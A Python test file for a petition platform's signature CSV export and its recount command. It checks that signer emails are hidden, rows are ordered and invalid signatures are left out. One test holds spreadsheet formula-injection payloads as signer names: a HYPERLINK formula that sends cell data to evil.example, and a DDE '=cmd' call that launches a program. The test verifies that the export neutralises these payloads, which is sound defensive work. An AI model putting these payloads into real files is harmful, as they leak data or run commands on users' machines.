"""The delivery CSV (console and `flask export signatures`) and `flask petitions recount`."""

import csv
import io
from datetime import UTC, datetime, timedelta

from sqlalchemy import insert, update

from campaign.petitions.counting import counts_by_country, signature_count, tally_all
from campaign.petitions.delivery import EXPORT_BATCH, delivery_csv
from campaign.petitions.models import CommentStatus, Petition, Signature, SignatureStatus
from tests.factories.content import make_campaign
from tests.factories.petitions import make_petition, make_signature

SIGNED = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_console_export_lists_confirmed_signers_without_their_email(client, auth, session):
    petition = make_petition(ask_postcode=True)
    make_signature(
        petition,
        name="Aisha Khan",
        email="aisha@example.org",
        country="DE",
        postcode="10115",
        comment="For my family.",
        comment_status=CommentStatus.APPROVED,
        confirmed_at=SIGNED,
    )
    make_signature(
        petition,
        name="Ben Okafor",
        email="ben@example.org",
        country="NG",
        comment="Still waiting for a moderator",
        confirmed_at=SIGNED + timedelta(hours=1),
    )
    make_signature(petition, name="Rejected Remark", comment="Rude", comment_status="rejected")
    make_signature(petition, name="Not Confirmed", confirmed=False)
    make_signature(petition, name="Spam Bot", status=SignatureStatus.INVALIDATED)
    make_signature(make_petition(), name="Other Petition")
    auth.sign_in(role="editor")

    response = client.get(f"/admin/petitions/{petition.id}/export.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.is_streamed
    assert f'filename="{petition.slug}-signatures-' in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data(as_text=True)
    assert "@example.org" not in text  # signers were told their email is never shown
    table = rows(text)
    assert table[0] == ["name", "country", "country_name", "postcode", "comment", "signed_at"]
    assert table[1] == [
        "Aisha Khan",
        "DE",
        "Germany",
        "10115",
        "For my family.",
        SIGNED.isoformat(),
    ]
    assert table[2] == ["Ben Okafor", "NG", "Nigeria", "", "", "2026-03-01T13:30:00+00:00"]
    assert [row[0] for row in table[3:]] == ["Rejected Remark"]
    assert table[3][4] == ""


def test_export_leaves_the_postcode_column_out_when_the_petition_did_not_ask(client, auth, session):
    petition = make_petition(ask_postcode=False)
    make_signature(petition, name="Sam", country="FR", postcode="stale", confirmed_at=SIGNED)
    auth.sign_in()

    table = rows(client.get(f"/admin/petitions/{petition.id}/export.csv").get_data(as_text=True))

    assert table == [
        ["name", "country", "country_name", "comment", "signed_at"],
        ["Sam", "FR", "France", "", SIGNED.isoformat()],
    ]


def test_export_neutralises_cells_a_spreadsheet_would_run(client, auth, session):
    # The public form refuses such names, so a row like this can only come from elsewhere
    # (an import, an old version): insert it straight into the table.
    petition = make_petition(ask_postcode=True)
    make_signature(
        petition,
        name='=HYPERLINK("https://evil.example?"&A2,"Click")',
        postcode="+44 1",
        comment="-2+3",
        comment_status=CommentStatus.APPROVED,
    )
    make_signature(petition, name="@SUM(A1:A9)", comment="\tcmd", comment_status="approved")
    make_signature(petition, name="\r=1+1")
    auth.sign_in()

    table = rows(client.get(f"/admin/petitions/{petition.id}/export.csv").get_data(as_text=True))

    assert table[1][0] == '\'=HYPERLINK("https://evil.example?"&A2,"Click")'
    assert (table[1][3], table[1][4]) == ("'+44 1", "'-2+3")
    assert (table[2][0], table[2][4]) == ("'@SUM(A1:A9)", "'\tcmd")
    assert table[3][0] == "'\r=1+1"


def test_export_streams_every_row_across_batches_in_the_order_signed(session):
    petition = make_petition()
    total = EXPORT_BATCH * 2 + 5
    session.execute(
        insert(Signature),
        [
            {
                "petition_id": petition.id,
                "name": f"Signer {n:05d}",
                "email": f"bulk{n}@example.org",
                "country": "GB",
                "status": SignatureStatus.CONFIRMED,
                "confirmed_at": SIGNED + timedelta(seconds=n),
            }
            for n in range(total)
        ],
    )
    lines = delivery_csv(petition)

    assert next(lines) == "name,country,country_name,comment,signed_at\r\n"
    names = [line.split(",")[0] for line in lines]
    assert names == [f"Signer {n:05d}" for n in range(total)]


def test_export_signatures_command_prints_the_same_csv(app, client, auth, session):
    petition = make_petition(slug="deliver-me")
    make_signature(petition, name="=cmd|' /C calc'!A0", country="JP", confirmed_at=SIGNED)
    make_signature(petition, name="Pending", confirmed=False)
    session.commit()
    auth.sign_in()
    from_console = client.get(f"/admin/petitions/{petition.id}/export.csv").get_data(as_text=True)

    result = app.test_cli_runner().invoke(args=["export", "signatures", "deliver-me"])

    assert result.exit_code == 0, result.output
    printed = result.stdout_bytes.decode()  # `output` would turn CSV's \r\n into \n
    assert printed == from_console
    assert rows(printed)[1] == ["'=cmd|' /C calc'!A0", "JP", "Japan", "", SIGNED.isoformat()]


def test_export_signatures_refuses_an_unknown_petition_with_exit_code_2(app, session):
    result = app.test_cli_runner().invoke(args=["export", "signatures", "no-such-petition"])

    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        "Error: There is no petition with the slug 'no-such-petition'."
    ]


def drift(petition: Petition, counted: int, session) -> None:
    """Make the folded counter wrong, as a bug or a hand edit might (tests only)."""
    session.execute(
        update(Petition).where(Petition.id == petition.id).values(counted_signatures=counted)
    )
    session.commit()


def test_petitions_recount_rebuilds_one_petition_and_prints_before_and_after(app, session):
    petition = make_petition(slug="drifted")
    untouched = make_petition(slug="untouched")
    for country in ("GB", "GB", "FR"):
        make_signature(petition, country=country)
    make_signature(petition, status=SignatureStatus.INVALIDATED)
    make_signature(untouched)
    tally_all()
    drift(petition, 10, session)
    drift(untouched, 7, session)

    result = app.test_cli_runner().invoke(args=["petitions", "recount", "drifted"])

    assert result.exit_code == 0, result.output
    assert result.output == "drifted: 10 → 3\n"
    session.expire_all()
    assert petition.counted_signatures == 3
    assert signature_count(petition) == 3
    assert counts_by_country(petition) == {"GB": 2, "FR": 1}
    assert untouched.counted_signatures == 7


def test_petitions_recount_without_a_slug_rebuilds_every_petition(app, session):
    campaign = make_campaign()
    first = make_petition(campaign, slug="a-first")
    second = make_petition(campaign, slug="b-second")
    make_signature(first)
    make_signature(second)
    make_signature(second)
    tally_all()
    drift(first, 0, session)
    drift(second, 5, session)

    result = app.test_cli_runner().invoke(args=["petitions", "recount"])

    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == ["a-first: 0 → 1", "b-second: 5 → 2"]
    session.expire_all()
    assert (first.counted_signatures, second.counted_signatures) == (1, 2)


def test_petitions_recount_refuses_an_unknown_petition_with_exit_code_2(app, session):
    result = app.test_cli_runner().invoke(args=["petitions", "recount", "nope"])

    assert result.exit_code == 2
    assert result.output.strip() == "Error: There is no petition with the slug 'nope'."
